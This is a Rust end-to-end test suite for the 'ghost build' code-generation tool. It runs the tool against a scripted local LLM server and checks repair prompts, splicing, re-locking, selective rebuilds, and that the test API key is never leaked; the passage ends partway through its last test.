//! `ghost build` end to end: the real binary in temporary projects, against a scripted
//! HTTP server on 127.0.0.1 (OpenAI and Anthropic wire formats, streamed and whole) and a
//! command-provider script, with small specs so that cargo builds fast.
//!
//! Every generated crate shares one cargo target folder (`GHOST_TARGET_DIR`), so proptest
//! and insta compile once for the suite; each project has its own crate name so that the
//! tests do not rebuild each other's code. Cargo runs offline.

use crate::support::aged::aged_lock;
use crate::support::server::{Answer, Background, Handler, Seen};
use crate::support::shared_target_dir;
use crate::support::wire::{self, Stop};
use ghost::plan::{Lock, LockEntry};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, RwLock, RwLockReadGuard, RwLockWriteGuard};
use std::time::Duration;

const KEY_VAR: &str = "GHOST_E2E_KEY";
const KEY: &str = "sk-test-SECRET-123";

/// Most tests share the machine; the time-limit test takes it alone, so that its short
/// limit is not spent waiting for other tests' cargo runs on the shared target folder.
static MACHINE: RwLock<()> = RwLock::new(());

fn shared() -> RwLockReadGuard<'static, ()> {
    MACHINE.read().unwrap_or_else(|e| e.into_inner())
}

fn alone() -> RwLockWriteGuard<'static, ()> {
    MACHINE.write().unwrap_or_else(|e| e.into_inner())
}

// ---------------------------------------------------------------------------------------
// Specs and implementations

const DOUBLE: (&str, &str) = (
    "math/double.ghost",
    r#"module math.double {
  "Doubling integers."

  fn double(n: int) -> int {
    "Twice n."
    example double(2) == 4
    example double(-3) == -6
  }
}
"#,
);

const DOUBLE_RIGHT: &str = "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n";
/// Passes `double(2) == 4`, fails `double(-3) == -6`.
const DOUBLE_WRONG: &str = "pub fn double(n: i64) -> i64 {\n    n + 2\n}\n";
/// Right for n >= 0 only: passes `double(2) == 4` and `double(0) == 0`.
const DOUBLE_ABS: &str = "pub fn double(n: i64) -> i64 {\n    n + n.abs()\n}\n";
/// Compiles nowhere, and rustc has no fix for it.
const DOUBLE_BROKEN: &str = "pub fn double(n: i64) -> i64 {\n    n * \"2\"\n}\n";
const DOUBLE_LOOPING: &str = "pub fn double(n: i64) -> i64 {\n    let _ = n;\n    loop {\n        std::thread::sleep(std::time::Duration::from_millis(20));\n    }\n}\n";

/// `math.double` with a float signature: its dependents' code stops compiling.
const DOUBLE_FLOAT: (&str, &str) = (
    "math/double.ghost",
    r#"module math.double {
  "Doubling numbers."

  fn double(x: float) -> float {
    "Twice x."
    example double(1.5) == 3.0
  }
}
"#,
);
const DOUBLE_FLOAT_RIGHT: &str = "pub fn double(x: f64) -> f64 {\n    x * 2.0\n}\n";

const QUAD: (&str, &str) = (
    "math/quad.ghost",
    r#"module math.quad {
  "Four times."
  use math.double

  fn quad(n: int) -> int {
    "Four times n, by doubling twice."
    example quad(3) == 12
  }
}
"#,
);
const QUAD_RIGHT: &str =
    "use crate::math::double::double;\n\npub fn quad(n: i64) -> i64 {\n    double(double(n))\n}\n";
/// Right for `double`'s own examples only.
const DOUBLE_ONLY_EXAMPLES: &str =
    "pub fn double(n: i64) -> i64 {\n    if n == 2 || n == -3 { n * 2 } else { n + 1 }\n}\n";
/// `quad` that no longer relies on `double`.
const QUAD_PATCHED: &str = "pub fn quad(n: i64) -> i64 {\n    n * 4\n}\n";
/// `quad` that compiles against any `double` and is wrong.
const QUAD_WRONG: &str = "pub fn quad(n: i64) -> i64 {\n    n * 5\n}\n";
const QUAD_FLOAT_RIGHT: &str = "use crate::math::double::double;\n\npub fn quad(n: i64) -> i64 {\n    double(double(n as f64)) as i64\n}\n";

const SHOUT: (&str, &str) = (
    "text/shout.ghost",
    r#"module text.shout {
  "Loud text."

  fn shout(s: str) -> str {
    "s in ASCII upper case, with one '!' appended."
    example shout("hi") == "HI!"
  }
}
"#,
);
const SHOUT_RIGHT: &str =
    "pub fn shout(s: &str) -> String {\n    format!(\"{}!\", s.to_ascii_uppercase())\n}\n";

const PAIR_RIGHT: &str = "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n\npub fn triple(n: i64) -> i64 {\n    n * 3\n}\n";

const PAIR: (&str, &str) = (
    "math/pair.ghost",
    r#"module math.pair {
  "Doubling and tripling."

  fn double(n: int) -> int {
    "Twice n."
    example double(2) == 4
    example double(-3) == -6
  }

  fn triple(n: int) -> int {
    "Three times n."
    example triple(2) == 6
  }
}
"#,
);

// ---------------------------------------------------------------------------------------
// Scripted agents

/// One scripted answer, made from the request it answers.
type Step = Box<dyn Fn(&Seen) -> Answer + Send + Sync>;

/// Code in one ```rust block, in the wire format the request asked for.
fn code(c: &'static str) -> Step {
    Box::new(move |seen| wire::code(seen, c))
}

/// A reply cut off by the token limit.
fn cut() -> Step {
    Box::new(|seen| {
        wire::text(
            seen,
            "Here it is:\n```rust\npub fn double(n: i64",
            Stop::Cut,
        )
    })
}

/// A fixed answer (errors, garbage).
fn raw(answer: Answer) -> Step {
    Box::new(move |_| answer.clone())
}

fn unscripted(why: &str) -> Answer {
    Answer::json(
        400,
        &format!(r#"{{"error":{{"message":"unscripted request: {why}"}}}}"#),
    )
}

/// Answers every request with the next step, whatever the module.
fn script(steps: Vec<Step>) -> Handler {
    let steps = Mutex::new(steps.into_iter());
    Arc::new(
        move |seen, _| match steps.lock().expect("not poisoned").next() {
            Some(step) => step(seen),
            None => unscripted("past the end of the script"),
        },
    )
}

/// Answers each module's requests from its own steps; the module is found by the prompt's
/// `# Module `name`` heading, so independent modules may ask in any order.
fn routed(modules: Vec<(&'static str, Vec<Step>)>) -> Handler {
    let queues: Mutex<Vec<(&'static str, std::vec::IntoIter<Step>)>> = Mutex::new(
        modules
            .into_iter()
            .map(|(m, s)| (m, s.into_iter()))
            .collect(),
    );
    Arc::new(move |seen, _| {
        let prompt = seen.prompt();
        let mut queues = queues.lock().expect("not poisoned");
        let Some((module, steps)) = queues
            .iter_mut()
            .find(|(m, _)| prompt.contains(&format!("# Module `{m}`")))
        else {
            return unscripted("no module of the script");
        };
        match steps.next() {
            Some(step) => step(seen),
            None => unscripted(&format!("no more steps for {module}")),
        }
    })
}

/// The module a prompt is for.
/// A build of `specs` in a new project `name` that ends green, against an OpenAI-format
/// server giving `replies` in turn (`args` after `build`); the project and what the server
/// was asked.
fn build_green(
    name: &str,
    specs: &[(&str, &str)],
    replies: Vec<Step>,
    args: &[&str],
) -> (Project, Vec<Seen>) {
    let server = Background::start_with(script(replies));
    let p = Project::new(name, &openai(&server), specs);
    let args: Vec<&str> = std::iter::once("build")
        .chain(args.iter().copied())
        .collect();
    p.ghost(&args).expect(0);
    let seen = server.server.seen();
    (p, seen)
}

fn module_of(seen: &Seen) -> String {
    let prompt = seen.prompt();
    let start = prompt.find("# Module `").map(|i| i + "# Module `".len());
    start
        .and_then(|s| prompt[s..].find('`').map(|e| prompt[s..s + e].to_string()))
        .unwrap_or_default()
}

fn openai(server: &Background) -> String {
    http_agent("openai", server, true)
}

/// An `[agent]` table for an HTTP provider at `server`; `stream` asks for streamed replies.
fn http_agent(provider: &str, server: &Background, stream: bool) -> String {
    format!(
        "provider = \"{provider}\"\nmodel = \"test-model\"\nbase_url = \"{}\"\napi_key_env = \"{KEY_VAR}\"\nstream = {stream}\n",
        server.server.base_url
    )
}

// ---------------------------------------------------------------------------------------
// Projects

struct Project {
    _tmp: tempfile::TempDir,
    /// The temporary folder: the project and whatever the test keeps beside it.
    outside: PathBuf,
    root: PathBuf,
    name: String,
}

/// What a run of `ghost` did.
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    fn text(&self) -> String {
        format!("{}\n{}", self.stdout, self.stderr)
    }

    fn expect(self, code: i32) -> Run {
        assert_eq!(
            self.code, code,
            "ghost exited {} instead of {code}\n--- stdout\n{}\n--- stderr\n{}",
            self.code, self.stdout, self.stderr
        );
        self
    }
}

impl Project {
    /// A project named `name` (also its crate's name) with `agent` as its `[agent]` table.
    fn new(name: &str, agent: &str, specs: &[(&str, &str)]) -> Project {
        let tmp = tempfile::tempdir().expect("temp dir");
        let outside = tmp.path().to_path_buf();
        let root = outside.join("project");
        std::fs::create_dir_all(root.join("specs")).expect("mkdir specs");
        let p = Project {
            _tmp: tmp,
            outside,
            root,
            name: name.to_string(),
        };
        p.configure(agent, "");
        for (path, text) in specs {
            p.spec(path, text);
        }
        p
    }

    /// Rewrites ghost.toml with `agent` as `[agent]` and `build` as `[build]`.
    fn configure(&self, agent: &str, build: &str) {
        let text = format!(
            "[project]\nname = \"{}\"\n\n[agent]\n{agent}\n[build]\n{build}\n",
            self.name
        );
        self.write("ghost.toml", &text);
    }

    fn spec(&self, path: &str, text: &str) {
        self.write(&format!("specs/{path}"), text);
    }

    fn write(&self, rel: &str, text: &str) {
        let path = self.root.join(rel);
        std::fs::create_dir_all(path.parent().expect("a file in a folder")).expect("mkdir");
        std::fs::write(&path, text).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
    }

    fn bytes(&self, rel: &str) -> Vec<u8> {
        let path = self.root.join(rel);
        std::fs::read(&path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()))
    }

    fn read(&self, rel: &str) -> String {
        String::from_utf8(self.bytes(rel)).expect("UTF-8")
    }

    /// The `imp.rs` of module `a.b`.
    fn imp(&self, module: &str) -> String {
        self.read(&imp_rel(module))
    }

    fn lock(&self) -> Lock {
        Lock::parse(Path::new("ghost.lock"), &self.read("ghost.lock")).expect("a valid lock")
    }

    fn entry(&self, module: &str) -> LockEntry {
        self.lock()
            .get(module)
            .cloned()
            .unwrap_or_else(|| panic!("no lock entry for {module}:\n{}", self.read("ghost.lock")))
    }

    /// Runs `ghost ARGS` in the project.
    fn ghost(&self, args: &[&str]) -> Run {
        let out = assert_cmd::Command::cargo_bin("ghost")
            .expect("the ghost binary")
            .args(args)
            .current_dir(&self.root)
            .env(KEY_VAR, KEY)
            .env("GHOST_TARGET_DIR", shared_target_dir())
            .env("CARGO_NET_OFFLINE", "true")
            .env("NO_COLOR", "1")
            .env_remove("GHOST_PROVIDER")
            .env_remove("GHOST_MODEL")
            .env_remove("GHOST_BASE_URL")
            .env_remove("OPENAI_API_KEY")
            .env_remove("ANTHROPIC_API_KEY")
            .timeout(Duration::from_secs(600))
            .output()
            .expect("ghost runs");
        let run = Run {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        };
        assert!(
            !run.text().contains(KEY),
            "ghost printed the API key:\n{}",
            run.text()
        );
        run
    }

    /// No file ghost wrote (the whole project, `.ghost/` and `generated/` included) holds
    /// the API key.
    fn assert_no_key(&self) {
        let mut files = 0;
        for entry in walkdir::WalkDir::new(&self.root) {
            let entry = entry.expect("walk the project");
            if !entry.file_type().is_file() {
                continue;
            }
            files += 1;
            let bytes = std::fs::read(entry.path()).expect("read a project file");
            assert!(
                !bytes.windows(KEY.len()).any(|w| w == KEY.as_bytes()),
                "the API key is in {}",
                entry.path().display()
            );
        }
        assert!(files > 3, "the walk saw the files ghost wrote");
    }

    /// Everything the run logs (`.ghost/runs/*.jsonl`) hold.
    fn run_log(&self) -> String {
        let mut out = String::new();
        let dir = self.root.join(".ghost/runs");
        for entry in std::fs::read_dir(&dir)
            .unwrap_or_else(|e| panic!("read {}: {e}", dir.display()))
            .flatten()
        {
            out.push_str(&std::fs::read_to_string(entry.path()).unwrap_or_default());
        }
        out
    }
}

fn imp_rel(module: &str) -> String {
    format!("generated/src/{}/imp.rs", module.replace('.', "/"))
}

// ---------------------------------------------------------------------------------------
// The build loop

/// A wrong answer, then the right one: the second prompt is a repair carrying the failing
/// example and the last attempt's code. Rebuilding an unchanged project asks nothing, and
/// the key is sent to the server but written nowhere.
#[test]
fn wrong_then_right_is_repaired_and_an_unchanged_rebuild_asks_nothing() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_WRONG), code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_repair", &openai(&server), &[DOUBLE]);
    let run = p.ghost(&["-v", "build"]).expect(0);
    assert!(
        run.stderr
            .contains("tried math.double (attempt 1): failed (1 of 2 failed)")
            && run
                .stderr
                .contains("tried math.double (attempt 2): accepted"),
        "-v tells each attempt's result:\n{}",
        run.stderr
    );

    let seen = server.server.seen();
    assert_eq!(seen.len(), 2, "one wrong attempt, one repair");
    let (first, repair) = (seen[0].prompt(), seen[1].prompt());
    assert!(first.contains("# Module `math.double`"), "{first}");
    assert!(!first.contains("does not hold"), "{first}");
    assert!(
        repair.contains("`example double(-3) == -6` does not hold"),
        "the repair carries the failing example:\n{repair}"
    );
    assert!(
        repair.contains("The body of `double` is taken out: it failed the tests below.")
            && repair
                .contains("pub fn double(n: i64) -> i64 {\n    // TODO: write this body anew\n}")
            && !repair.contains("n + 2"),
        "and the last attempt, without the body that failed:\n{repair}"
    );
    assert_eq!(seen[0].json()["stream"], true);
    assert_eq!(
        seen[0].json()["stop"],
        serde_json::json!(["\n```\n"]),
        "the model is stopped at the end of its code block"
    );
    let bearer = format!("Bearer {KEY}");
    assert_eq!(seen[0].header("authorization"), Some(bearer.as_str()));
    assert_eq!(
        seen[0].json().get("max_tokens"),
        None,
        "a model of unknown window: its provider bounds the reply"
    );

    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    let entry = p.entry("math.double");
    assert_eq!(
        (entry.agent.as_str(), entry.model.as_str()),
        ("openai", "test-model")
    );
    assert_eq!(entry.attempts, 2);
    assert!(entry.tokens_in > 0 && entry.tokens_out > 0, "{entry:?}");

    let lock = p.bytes("ghost.lock");
    for _ in 0..2 {
        p.ghost(&["build"]).expect(0);
        assert_eq!(
            server.server.seen().len(),
            2,
            "an unchanged rebuild asks nothing"
        );
    }
    assert_eq!(p.bytes("ghost.lock"), lock);
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    p.assert_no_key();
}

/// A repair asks only for the functions it took out, and a reply holding just those is
/// put in place of their holes: the rest of the code is kept, not written again.
#[test]
fn a_repair_reply_with_only_the_rewritten_function_is_spliced_in() {
    let _machine = shared();
    let first = "pub fn double(n: i64) -> i64 {\n    n + 2\n}\n\npub fn triple(n: i64) -> i64 {\n    n * 3\n}\n";
    // Wrapped in a module, as small models do: tidied away before it is spliced in.
    let only_double = "mod imp {\n    pub fn double(n: i64) -> i64 {\n        n * 2\n    }\n}\n";
    let server = Background::start_with(script(vec![code(first), code(only_double)]));
    let p = Project::new("e2e_splice", &openai(&server), &[PAIR]);
    p.ghost(&["build"]).expect(0);

    let seen = server.server.seen();
    assert_eq!(seen.len(), 2, "one wrong attempt, one repair");
    let repair = seen[1].prompt();
    assert!(
        repair.contains("Reply with ONE ```rust code block holding only `double`, each whole with its signature")
            && repair.contains("pub fn triple(n: i64) -> i64 {\n    n * 3\n}"),
        "the repair asks for `double` alone and shows `triple`:\n{repair}"
    );
    let imp = p.imp("math.pair");
    assert!(
        imp.contains("pub fn double(n: i64) -> i64 {\n    n * 2\n}")
            && imp.contains("pub fn triple(n: i64) -> i64 {\n    n * 3\n}")
            && !imp.contains("TODO")
            && !imp.contains("mod imp"),
        "{imp}"
    );
    assert_eq!(p.entry("math.pair").attempts, 2);
    let log = p.run_log();
    assert_eq!(
        log.matches("\"spliced\":true").count(),
        1,
        "the run log says which reply was put into the code:\n{log}"
    );
}

/// Two attempts that each got a different function right make one green code: the
/// second attempt's reply fails, and ghost puts the first attempt's right function in
/// place of its wrong one, with no third request.
#[test]
fn functions_two_attempts_got_right_are_crossed_into_one_green_code() {
    let _machine = shared();
    let first = "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n\npub fn triple(n: i64) -> i64 {\n    n + 3\n}\n";
    // The whole file again: `triple` mended, `double` broken.
    let second = "pub fn double(n: i64) -> i64 {\n    n + 1\n}\n\npub fn triple(n: i64) -> i64 {\n    n * 3\n}\n";
    let server = Background::start_with(script(vec![code(first), code(second)]));
    let p = Project::new("e2e_crossover", &openai(&server), &[PAIR]);
    p.ghost(&["build"]).expect(0);

    assert_eq!(server.server.seen().len(), 2, "no third request");
    let imp = p.imp("math.pair");
    assert!(
        imp.contains("n * 2") && imp.contains("n * 3") && !imp.contains("n + "),
        "{imp}"
    );
    assert_eq!(p.entry("math.pair").attempts, 2);
    let log = p.run_log();
    assert!(
        log.contains("\"crossed\":\"`double` of attempt 1\""),
        "the run log says what was taken from where:\n{log}"
    );
}

/// Code with two slips gets two of ghost's small edits: the first makes fewer tests fail
/// and is kept, the second turns them all green, with no second request.
#[test]
fn two_slips_get_two_small_edits_in_a_row() {
    let _machine = shared();
    const PAIR: (&str, &str) = (
        "math/slips.ghost",
        r#"module math.slips {
  "Doubling, and a threshold."

  fn double(n: int) -> int {
    "Twice n."
    example double(2) == 4
  }

  fn is_big(n: int) -> bool {
    "Whether n is 5 or more."
    example is_big(5)
    example !is_big(4)
  }
}
"#,
    );
    let slips = "pub fn double(n: i64) -> i64 {\n    n * 2 + 1\n}\n\npub fn is_big(n: i64) -> bool {\n    n > 5\n}\n";
    let server = Background::start_with(script(vec![code(slips)]));
    let p = Project::new("e2e_two_slips", &openai(&server), &[PAIR]);
    p.ghost(&["build"]).expect(0);

    assert_eq!(server.server.seen().len(), 1, "no repair asked");
    let imp = p.imp("math.slips");
    assert!(imp.contains("n * 2\n") && imp.contains("n >= 5"), "{imp}");
    let log = p.run_log();
    assert!(
        log.contains(", then "),
        "the run log names both edits:\n{log}"
    );
}

/// A model with a known window is asked for replies that leave its prompt room, or for
/// as many tokens as `max_reply_tokens` says: a model that repeats itself stops there.
#[test]
fn replies_are_bounded_by_the_window_or_max_reply_tokens() {
    let _machine = shared();
    for (extra, expected) in [
        ("context_window = 8192\n", 2_048),
        ("context_window = 8192\nmax_reply_tokens = 1000\n", 1_000),
        ("max_reply_tokens = 3000\n", 3_000),
    ] {
        let server = Background::start_with(script(vec![code(DOUBLE_RIGHT)]));
        let agent = format!("{}{extra}", openai(&server));
        let p = Project::new("e2e_reply_bound", &agent, &[DOUBLE]);
        p.ghost(&["build"]).expect(0);
        let seen = server.server.seen();
        assert_eq!(seen[0].json()["max_tokens"], expected, "{extra}");
    }
}

/// An example the current code already passes: the module is tested, re-locked, and
/// no agent is asked.
#[test]
fn an_added_example_the_code_passes_is_relocked_without_a_request() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_relock", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 1);
    let before = p.entry("math.double");

    p.spec(
        DOUBLE.0,
        &DOUBLE.1.replace(
            "    example double(2) == 4\n",
            "    example double(2) == 4\n    example double(0) == 0\n",
        ),
    );
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 1, "a re-lock asks nothing");
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    let after = p.entry("math.double");
    assert_ne!(after.spec, before.spec, "locked against the new spec");
    assert_eq!(after.implementation, before.implementation);
    assert_eq!(
        (after.attempts, after.tokens_in),
        (before.attempts, before.tokens_in),
        "a re-lock keeps what the code first cost"
    );

    p.ghost(&["build", "--locked"]).expect(0);
    assert_eq!(server.server.seen().len(), 1);
}

/// A function added to a locked module's spec: the build begins with ghost's stub of it
/// in the module's `mod.rs` (the code on disk has none, and the crate must compile), and
/// the agent's code that has it puts the re-export back, with no warning of a file changed
/// behind ghost's back.
#[test]
fn an_added_function_the_agent_writes_replaces_ghosts_stub_of_it() {
    let _machine = shared();
    let with_triple = format!("{DOUBLE_RIGHT}\npub fn triple(n: i64) -> i64 {{\n    n * 3\n}}\n");
    let with_triple: &'static str = Box::leak(with_triple.into_boxed_str());
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT), code(with_triple)]));
    let p = Project::new("e2e_standing_in", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);

    p.spec(
        DOUBLE.0,
        &DOUBLE.1.replace(
            "\n}\n",
            "\n\n  fn triple(n: int) -> int {\n    example triple(2) == 6\n  }\n}\n",
        ),
    );
    let run = p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 2);
    assert!(!run.text().contains("not by ghost"), "{}", run.text());
    let mod_rs = p.read("generated/src/math/double/mod.rs");
    assert!(
        mod_rs.contains("pub use imp::triple;") && !mod_rs.contains("ghost's stub"),
        "{mod_rs}"
    );
    p.ghost(&["build", "--locked"]).expect(0);
}

/// Every module stale at once, as after a new ghost (its key is part of each module's
/// spec fingerprint), with code on disk: the stale modules' code is tested together, in
/// one cargo run, and each one that passes is re-locked with no request; one whose code
/// fails its new tests takes its own path, to the agent.
#[test]
fn many_stale_modules_are_tested_together_and_relocked() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        ("math.double", vec![code(DOUBLE_RIGHT), code(DOUBLE_RIGHT)]),
        ("text.shout", vec![code(SHOUT_RIGHT)]),
        ("math.pair", vec![code(PAIR_RIGHT)]),
    ]));
    let p = Project::new(
        "e2e_stale_together",
        &openai(&server),
        &[DOUBLE, SHOUT, PAIR],
    );
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 3);
    let shout_before = p.entry("text.shout");

    // An older ghost's key in every entry, and `double` given an example its code fails.
    p.write("ghost.lock", &aged_lock(&p.read("ghost.lock")));
    p.spec(
        DOUBLE.0,
        &DOUBLE.1.replace(
            "    example double(2) == 4\n",
            "    example double(2) == 4\n    example double(5) == 11\n",
        ),
    );
    let said = p.ghost(&["status"]).expect(1).text();
    assert!(said.matches("stale").count() >= 3, "{said}");

    let run = p.ghost(&["build"]).expect(3);
    assert!(
        run.stderr
            .contains("testing  the code of 3 stale modules together"),
        "{}",
        run.text()
    );
    for module in ["text.shout", "math.pair"] {
        assert!(
            run.text().contains(&format!("re-locked {module}")),
            "{module}: {}",
            run.text()
        );
    }
    // `double(5) == 11` no code of `double` can pass: only `double` went to the agent.
    let asked: Vec<String> = server.server.seen().iter().skip(3).map(module_of).collect();
    assert_eq!(asked, vec!["math.double"; asked.len()], "{}", run.text());
    assert!(!asked.is_empty());
    let shout_after = p.entry("text.shout");
    assert_eq!(
        shout_after, shout_before,
        "locked again with this ghost's key"
    );
    p.ghost(&["build", "--locked", "text.shout", "math.pair"])
        .expect(0);
}

/// Stale modules tested together, one of whose code (locked by an older ghost) calls a
/// module it does not `use`: that code is refused (`unused_modules.rs`), never run with
/// the others, where that module's code would make it pass, and goes to the agent.
#[test]
fn stale_code_calling_a_module_it_does_not_use_is_tested_on_its_own() {
    let _machine = shared();
    let spec = |name: &str, f: &str, out: i64| {
        (
            format!("{name}.ghost"),
            format!(
                "module {name} {{\n  fn {f}(n: int) -> int {{\n    example {f}(1) == {out}\n  }}\n}}\n"
            ),
        )
    };
    let specs = [spec("x", "f", 2), spec("y", "g", 3), spec("z", "h", 4)];
    let specs: Vec<(&str, &str)> = specs
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    const Y_ALONE: &str = "pub fn g(n: i64) -> i64 {\n    n + 2\n}\n";
    let server = Background::start_with(routed(vec![("y", vec![code(Y_ALONE)])]));
    let p = Project::new("e2e_stale_unused", &openai(&server), &specs);
    p.write(&imp_rel("x"), "pub fn f(n: i64) -> i64 {\n    n + 1\n}\n");
    const Y_CALLS_X: &str = "pub fn g(n: i64) -> i64 {\n    crate::x::f(n) + 1\n}\n";
    p.write(&imp_rel("y"), Y_ALONE);
    p.write(&imp_rel("z"), "pub fn h(n: i64) -> i64 {\n    n + 3\n}\n");
    p.ghost(&["build", "--provider", "manual"]).expect(0);
    // The code calling `x` is refused now: a lock accepting it comes from before.
    p.write(&imp_rel("y"), Y_CALLS_X);
    let hash = |code: &str| ghost::plan::lock::implementation_hash(code.as_bytes());
    let lock = p
        .read("ghost.lock")
        .replace(&hash(Y_ALONE), &hash(Y_CALLS_X));
    let old_key = "spec = \"0000000000000000000000000000000000000000000000000000000000000000\"";
    let aged: String = lock
        .lines()
        .map(|l| if l.starts_with("spec = ") { old_key } else { l })
        .map(|l| format!("{l}\n"))
        .collect();
    p.write("ghost.lock", &aged);

    let run = p.ghost(&["build"]).expect(0);
    for module in ["x", "z"] {
        assert!(
            run.text().contains(&format!("re-locked {module}")),
            "{module}: {}",
            run.text()
        );
    }
    let asked: Vec<String> = server.server.seen().iter().map(module_of).collect();
    assert_eq!(asked, ["y"], "{}", run.text());
    assert_eq!(p.imp("y"), Y_ALONE);
}

/// A module whose compiler-owned files on disk are not what ghost generates now (an
/// older ghost's, or edited by hand): stale, with that reason, in `check` as in `status`,
/// and its code is tested again against the files ghost writes now and re-locked, with
/// no request. Files edited since ghost wrote them (`mod.rs`, the manifest) are kept
/// before they are written again, and the user is told where.
#[test]
fn a_module_whose_generated_files_changed_is_tested_again() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_regenerated", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    let entry = p.entry("math.double");
    let mod_rel = "generated/src/math/double/mod.rs";
    let mod_rs = p.read(mod_rel);
    p.write(mod_rel, &format!("{mod_rs}\n// my note\n"));
    let manifest = p.read("generated/Cargo.toml");
    p.write(
        "generated/Cargo.toml",
        &format!("{manifest}\n# my dependency\n"),
    );

    // `check` lets a stale module pass (what a save produces); `status` fails on it.
    for (command, code) in [("status", 1), ("check", 0)] {
        let said = p.ghost(&[command]).expect(code).text();
        assert!(
            said.contains("stale")
                && said
                    .contains("its mod.rs, tests or pinned snapshots are not what ghost generates"),
            "{command}: {said}"
        );
    }
    p.ghost(&["build", "--locked"]).expect(1);
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.text().contains("re-locked math.double"),
        "{}",
        run.text()
    );
    let kept: Vec<String> = walkdir::WalkDir::new(p.root.join(".ghost/kept"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| std::fs::read_to_string(e.path()).expect("kept"))
        .collect();
    for (file, edit) in [("mod.rs", "// my note"), ("Cargo.toml", "# my dependency")] {
        assert!(
            run.text()
                .contains(&format!("{file}` was edited since ghost wrote it")),
            "{file} named:\n{}",
            run.text()
        );
        assert!(
            kept.iter().any(|k| k.contains(edit)),
            "{file} kept: {kept:?}"
        );
    }
    assert_eq!(server.server.seen().len(), 1, "a re-test asks nothing");
    assert_eq!(p.read(mod_rel), mod_rs, "the file is what ghost generates");
    assert_eq!(p.entry("math.double"), entry);
    assert!(p.ghost(&["status"]).text().contains("fresh"));
}

/// A build that first writes the lock for a reason of its own (dropping the entry of a
/// deleted spec) still keeps a hand edit of a generated file before writing it again.
#[test]
fn an_edit_of_the_manifest_is_kept_when_the_build_drops_a_deleted_specs_entry() {
    let _machine = shared();
    let p = Project::new("e2e_orphan_edit", "", &[DOUBLE, SHOUT]);
    locked_by_hand(
        &p,
        &[("math.double", DOUBLE_RIGHT), ("text.shout", SHOUT_RIGHT)],
    );
    std::fs::remove_file(p.root.join("specs").join(SHOUT.0)).expect("delete a spec");
    let manifest = p.read("generated/Cargo.toml");
    p.write(
        "generated/Cargo.toml",
        &format!("{manifest}\n# my dependency\n"),
    );
    let run = p.ghost(&["build", "--provider", "manual"]).expect(0).text();
    assert!(
        run.contains("dropped `text.shout` from ghost.lock")
            && run.contains("Cargo.toml` was edited since ghost wrote it"),
        "{run}"
    );
    let kept = walkdir::WalkDir::new(p.root.join(".ghost/kept"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .any(|e| std::fs::read_to_string(e.path()).is_ok_and(|t| t.contains("# my dependency")));
    assert!(kept, "the edit is kept under .ghost/kept");
}

/// `ghost build --force math.double` asks for new code for `math.double` only (not for
/// what it uses, nor what uses it), and re-tests `math.quad`, which uses it, though not
/// selected: broken by the new code, it is found failing (exit 1, a failing status) and
/// left for a build that selects it, which repairs it.
#[test]
fn a_selective_build_tests_the_modules_using_its_new_code_and_regenerates_only_its_own() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        (
            "math.double",
            vec![code(DOUBLE_RIGHT), code(DOUBLE_ONLY_EXAMPLES)],
        ),
        (
            "math.quad",
            vec![code(QUAD_RIGHT), code(QUAD_PATCHED), code(QUAD_PATCHED)],
        ),
    ]));
    let p = Project::new("e2e_selective", &openai(&server), &[DOUBLE, QUAD]);
    p.ghost(&["build"]).expect(0);

    let run = p.ghost(&["build", "--force", "math.double"]).expect(1);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 3, "one request, for math.double only");
    assert_eq!(module_of(&seen[2]), "math.double");
    assert!(
        run.text().contains("math.quad")
            && run.text().contains("with the new code of `math.double`")
            && run.text().contains("ghost build math.quad"),
        "the dependent is re-tested and found failing, naming the code that broke it:\n{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_ONLY_EXAMPLES);
    assert_eq!(p.imp("math.quad"), QUAD_RIGHT, "not regenerated");
    let status = p.ghost(&["status"]).text();
    assert!(status.contains("failing"), "{status}");
    let quad_line = status
        .lines()
        .find(|l| l.starts_with("math.quad"))
        .unwrap_or_default();
    assert!(
        !quad_line.contains("re-locked") && !quad_line.contains("accepted"),
        "its last result is the failing run:\n{status}"
    );
    let check = p.ghost(&["check"]).expect(0).text();
    assert!(
        check.contains("failing math.quad"),
        "check says so too:\n{check}"
    );
    // Recorded in the committed lock, not in local state: another checkout (without
    // `.ghost/`) sees it failing too, and its build repairs it.
    assert!(p.entry("math.quad").failing, "{}", p.read("ghost.lock"));
    assert!(!p.entry("math.double").failing);
    std::fs::remove_dir_all(p.root.join(".ghost")).expect("drop the local state");
    let status = p.ghost(&["status"]).text();
    assert!(status.contains("failing"), "a fresh checkout:\n{status}");

    p.ghost(&["build"]).expect(0);
